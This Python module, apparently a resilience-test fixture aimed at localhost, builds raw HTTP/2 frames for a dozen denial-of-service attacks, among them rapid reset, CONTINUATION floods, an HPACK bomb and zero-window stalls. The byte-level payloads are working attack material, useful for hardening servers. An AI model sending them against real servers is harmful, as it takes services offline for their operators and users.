"""What a hostile HTTP/2 client sends: for each attack the frames that it begins with, and those of its n-th turn."""

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags, stream, payload=b""):
    """One frame."""
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def field(name, value):
    """A field of a header block: literal, new name, not indexed. Names are short, values below 254 bytes."""
    length = bytes((len(value),)) if len(value) < 127 else bytes((127, len(value) - 127))
    return b"\x00" + bytes((len(name),)) + name + length + value


def block(key, method=b"GET"):
    """A request's header block."""
    head = ((b":method", method), (b":scheme", b"https"), (b":authority", b"localhost"), (b":path", b"/api/v2/orders"))
    return b"".join(field(*pair) for pair in (*head, (b"x-ce-key", key)))


def _get(key, n, flags=END_STREAM | END_HEADERS):
    return frame(HEADERS, flags, 2 * n + 1, block(key))


def _bomb(key):
    # 4,000 bytes that the table keeps, named again with one byte each time.
    kept = b"\x40\x01x" + b"\x7f\xa1\x1e" + b"b" * 4000
    return frame(HEADERS, END_STREAM | END_HEADERS, 1, block(key) + kept + b"\xbe" * 12_000)


ZERO_WINDOW = frame(SETTINGS, 0, 0, b"\x00\x04\x00\x00\x00\x00")

ATTACKS = {
    "PING": (lambda key: b"", lambda key, n: frame(PING, 0, 0, b"12345678")),
    "SETTINGS": (lambda key: b"", lambda key, n: frame(SETTINGS, 0, 0, b"\x00\x04\x00\x00\xff" + bytes((n % 2,)))),
    "PRIORITY": (lambda key: b"", lambda key, n: frame(PRIORITY, 0, 2 * n + 1, b"\x00\x00\x00\x00\x10")),
    "WINDOW_UPDATE": (lambda key: b"", lambda key, n: frame(WINDOW_UPDATE, 0, 0, b"\x00\x00\x00\x01")),
    "empty DATA": (lambda key: _get(key, 0, END_HEADERS), lambda key, n: frame(DATA, 0, 1)),
    "CONTINUATION": (lambda key: frame(HEADERS, 0, 1, block(key)), lambda key, n: frame(CONTINUATION, 0, 1, field(b"a", b"b"))),
    "empty CONTINUATION": (lambda key: frame(HEADERS, 0, 1, block(key)), lambda key, n: frame(CONTINUATION, 0, 1)),
    "rapid reset": (lambda key: b"", lambda key, n: _get(key, n) + frame(RST_STREAM, 0, 2 * n + 1, b"\x00\x00\x00\x08")),
    "made you reset": (lambda key: b"", lambda key, n: _get(key, n) + frame(WINDOW_UPDATE, 0, 2 * n + 1, b"\x7f\xff\xff\xff")),
    "open streams": (lambda key: b"", lambda key, n: _get(key, n, END_HEADERS)),
    "HPACK bomb": (_bomb, lambda key, n: b""),
    "zero windows": (lambda key: ZERO_WINDOW, lambda key, n: _get(key, n) if n < 128 else b""),
}
